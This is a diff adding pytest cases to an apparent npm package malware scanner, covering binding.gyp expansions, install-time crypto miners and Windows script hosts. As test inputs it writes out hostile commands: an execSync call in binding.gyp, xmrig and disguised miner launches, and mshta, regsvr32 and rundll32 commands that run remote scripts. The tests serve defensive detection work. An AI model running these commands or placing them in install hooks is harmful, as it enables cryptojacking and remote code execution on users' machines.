@@ -147,3 +147,46 @@ def test_dependencies_from_urls_and_tea_farms():
     farm = analyze(DependencyFloodAnalyzer, {"name": "vivid-mint", "dependencies": deps}, {"tea.yaml": b"version: 1.0.0\n"})
     assert [f.rule for f in farm] == ["dependency-flood/tea-farming"]
     assert analyze(DependencyFloodAnalyzer, {"name": "vivid-mint", "dependencies": deps}) == []
+
+
+@pytest.mark.parametrize("expansion", [
+    # source: node-sass@9.0.0 binding.gyp (include_dirs), and the node-addon-api README idiom
+    "'<!(node -e \"require(\\'nan\\')\")'",
+    "\"<!@(node -p \\\"require('node-addon-api').include\\\")\"",
+    "'<!(node -p \"require(\\'node-addon-api\\').gyp\")'",
+])
+def test_binding_gyp_header_path_idiom_is_recognised_not_inline_code(expansion):
+    gyp = ("{'targets': [{'target_name': 'binding', 'sources': ['src/binding.cpp'],\n"
+           f"  'include_dirs': [{expansion}],\n  'dependencies': []}}]}}\n").encode()
+    found = findings(artifact(None, {"binding.gyp": gyp}))
+    assert not [f for f in found if f.severity > Severity.INFO], [(f.rule, f.severity.label) for f in found]
+    assert sum(f.rule == "install-script/recognised" for f in found) == 2  # node-gyp rebuild and the expansion
+
+
+def test_binding_gyp_inline_code_that_does_more_is_still_reported():
+    gyp = b"{'targets': [{'include_dirs': ['<!(node -e \"require(\\'child_process\\').execSync(\\'id\\')\")']}]}"
+    found = findings(artifact(None, {"binding.gyp": gyp}))
+    assert any(f.rule == "install-script/inline-code" and f.severity is Severity.HIGH for f in found)
+
+
+@pytest.mark.parametrize("command", [
+    "./xmrig -o stratum+tcp://pool.example:3333 -u 4FAKEWALLET --donate-level 1 -B",
+    "nohup ./jsextension -k --tls -o pool.example:443 --algo=rx/0 >/dev/null 2>&1 &",
+])
+def test_a_miner_started_at_install_is_malicious(command):
+    found = findings(artifact({"postinstall": command}))
+    assert "install-script/crypto-miner" in {f.rule for f in found} and decide(found).level is Level.MALICIOUS
+
+
+def test_a_benchmark_that_mentions_hashing_is_not_a_miner():
+    assert "install-script/crypto-miner" not in rules(artifact({"postinstall": "node bench/hash.js --algo sha256"}))
+
+
+@pytest.mark.parametrize("command", [
+    "mshta https://cdn.example/u.hta",
+    "regsvr32 /s /n /u /i:https://cdn.example/file.sct scrobj.dll",
+    "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)",
+])
+def test_windows_script_hosts_running_remote_code(command):
+    found = findings(artifact({"preinstall": command}))
+    assert "install-script/remote-script" in {f.rule for f in found} and decide(found).level is Level.MALICIOUS
